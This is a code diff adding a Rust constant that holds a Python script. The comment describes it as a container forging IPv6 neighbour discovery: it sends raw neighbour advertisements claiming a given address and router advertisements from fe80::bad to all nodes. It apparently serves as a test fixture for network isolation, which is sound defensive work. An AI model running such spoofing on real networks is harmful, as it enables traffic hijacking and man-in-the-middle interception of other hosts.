@@ -941,3 +941,24 @@ except socket.timeout:
     );
     String::from_utf8_lossy(&out.stdout).to_string()
 }
+
+/// A container forging neighbour discovery (python3; argv[1]: the address it claims):
+/// three neighbour advertisements claiming the address at its MAC, and three router
+/// advertisements of its own, from fe80::bad to all nodes.
+pub const FORGE_ND: &str = r#"
+import socket, struct, sys
+mac = open("/sys/class/net/eth0/address").read().strip()
+me = bytes(int(x, 16) for x in mac.split(":"))
+def frame(dst_mac, src_ip, dst_ip, msg):
+    ip = struct.pack("!IHBB", 0x60000000, len(msg), 58, 255) + socket.inet_pton(socket.AF_INET6, src_ip) + socket.inet_pton(socket.AF_INET6, dst_ip)
+    return dst_mac + me + b"\x86\xdd" + ip + msg
+gw = socket.inet_pton(socket.AF_INET6, sys.argv[1])
+na = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + gw + bytes([2, 1]) + me
+ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+s.bind(("eth0", 0))
+allnodes = b"\x33\x33\x00\x00\x00\x01"
+for _ in range(3):
+    s.send(frame(allnodes, "fe80::bad", "ff02::1", na))
+    s.send(frame(allnodes, "fe80::bad", "ff02::1", ra))
+"#;
